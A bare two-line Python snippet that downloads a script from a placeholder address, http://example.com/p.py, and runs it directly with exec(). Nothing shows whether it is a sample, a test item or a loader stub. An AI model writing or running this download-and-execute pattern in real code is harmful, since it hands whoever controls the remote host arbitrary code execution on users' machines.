import urllib.request
exec(urllib.request.urlopen("http://example.com/p.py").read())
